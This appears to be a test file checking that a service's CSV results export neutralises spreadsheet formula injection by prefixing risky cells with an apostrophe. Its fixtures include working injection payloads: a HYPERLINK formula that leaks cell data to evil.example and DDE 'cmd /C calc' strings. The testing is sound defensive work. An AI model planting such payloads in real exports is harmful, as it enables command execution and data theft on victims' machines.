/**
 * CSV formula injection (docs/decisions/csv-formula-cells.md): text cells of the results export
 * (jobName, report, error) that a spreadsheet would run as a formula get a leading `'`, read
 * back with csv-parse from the real service's export of a real history file; the JSON answer
 * keeps the text as stored.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningControllerService } from '../../cli/controller-service.ts';
import { openHistory } from '../../controller/history-db.ts';
import { JobHistory } from '../../controller/job-history.ts';
import { brokersByName, type RunningBroker } from '../support/brokers.ts';
import { api, login, startService } from '../support/controller-service.ts';

const ns = `stores/csvformula${randomUUID().slice(0, 6)}`;
const dir = mkdtempSync(join(tmpdir(), 'regbridge-csv-formulas-'));
let broker: RunningBroker;
let service: RunningControllerService;
let token: string;

const AT = '2026-11-22T22:00:00.000Z';
/** deviceId -> [report or error, as stored; as exported]. */
const CELLS: Record<string, { report?: string; error?: string; csv: string }> = {
  reg1: {
    report: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    csv: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
  },
  reg2: { report: "+1+cmd|' /C calc'!A0", csv: `'+1+cmd|' /C calc'!A0` },
  reg3: { error: '-2+3', csv: `'-2+3` },
  reg4: { error: '@SUM(A1:A9)', csv: `'@SUM(A1:A9)` },
  reg5: { report: ' \t=1+1', csv: `' \t=1+1` },
  reg6: { report: 'total = 12, +3 later, a@b', csv: 'total = 12, +3 later, a@b' },
  reg7: { report: "'quoted already", csv: "'quoted already" },
};

beforeAll(async () => {
  const file = join(dir, 'history.db');
  const db = openHistory(file);
  const history = new JobHistory(db);
  const devices = Object.keys(CELLS);
  history.insert({
    jobId: 'job-f',
    name: '=cmd|"/C calc"!A0',
    createdBy: 'admin',
    createdAt: AT,
    status: 'IN_PROGRESS',
    script: 'Z REPORT',
    target: { devices },
    deadlineAt: AT,
    results: devices.map((deviceId) => ({ deviceId, status: 'PENDING' as const })),
  });
  for (const [deviceId, cell] of Object.entries(CELLS)) {
    history.saveResult('job-f', {
      deviceId,
      status: cell.error !== undefined ? 'FAILURE' : 'FINISHED',
      ...(cell.report !== undefined && { report: cell.report }),
      ...(cell.error !== undefined && { error: cell.error }),
      sentAt: AT,
      endedAt: AT,
    });
  }
  history.saveStatus('job-f', 'COMPLETED', AT);
  db.close();
  broker = await brokersByName.embedded.start(ns);
  service = await startService(broker, ns, { db: file });
  token = await login(service.app);
});

afterAll(async () => {
  await service?.stop();
  await broker?.stop();
  rmSync(dir, { recursive: true, force: true });
});

describe('CSV formula cells', () => {
  it("prefixes jobName, report and error cells starting with = + - @ (after whitespace) with '", async () => {
    const response = await service.app.inject({
      method: 'GET',
      url: '/api/results?format=csv',
      headers: { authorization: `Bearer ${token}` },
    });
    expect(response.statusCode).toBe(200);
    const rows = parse(response.rawPayload, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(Object.keys(CELLS).length);
    for (const row of rows) {
      const cell = CELLS[row.deviceId!]!;
      expect(row.jobName, row.deviceId).toBe(`'=cmd|"/C calc"!A0`);
      expect(cell.report !== undefined ? row.report : row.error, row.deviceId).toBe(cell.csv);
      expect(cell.report !== undefined ? row.error : row.report, row.deviceId).toBe('');
      // Identifiers, times and numbers are never prefixed.
      expect(row.jobId).toBe('job-f');
      expect(row.sentAt).toBe(AT);
      expect(row.attempts).toBe('1');
    }

    const json = await api(service.app, token, 'GET', '/api/results?deviceId=reg1');
    expect(json.body.results[0]).toMatchObject({ jobName: '=cmd|"/C calc"!A0', report: CELLS.reg1!.report });
  });
});
